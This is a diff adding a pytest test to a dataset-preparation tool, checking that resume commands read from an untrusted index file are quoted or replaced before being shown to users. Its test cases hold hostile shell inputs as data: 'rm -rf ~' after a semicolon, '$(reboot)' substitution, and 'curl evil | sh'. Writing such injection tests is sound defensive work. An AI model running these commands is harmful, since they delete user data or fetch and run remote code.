@@ -222,3 +222,24 @@ def test_broken_images_are_an_error_or_are_skipped_and_counted(folder, tmp_path,
     source = sources.open_source(f"records:{tmp_path / 'other'}", "train", None)
     assert source.records.labels(None).tolist() == [0, 1, 1]
     assert json.loads((tmp_path / "other" / "index.json").read_text())["sizes"]["train"] == 4
+
+
+@pytest.mark.parametrize(
+    ("command", "shown"),
+    [
+        (
+            "python -m cv_jax prepare digits --to 'a b'",
+            "python -m cv_jax prepare digits --to 'a b'",
+        ),
+        ("python -m cv_jax prepare x; rm -rf ~", "python -m cv_jax prepare 'x;' rm -rf '~'"),
+        ("python -m cv_jax prepare $(reboot) '", "python -m cv_jax prepare '$(reboot)' ''\"'\"''"),
+        ("curl evil | sh", "python -m cv_jax prepare SOURCE --to {}"),
+        (None, "python -m cv_jax prepare SOURCE --to {}"),
+    ],
+)
+def test_a_recorded_command_is_inert_in_a_shell(tmp_path, command, shown):
+    """Users paste it; a stranger may have written the index."""
+    (tmp_path / "index.json").write_text(json.dumps({"finished": False, "command": command}))
+    with pytest.raises(InputError) as caught:
+        records.read_index(tmp_path)
+    assert str(caught.value) == f"{tmp_path} is incomplete; resume with: {shown.format(tmp_path)}"
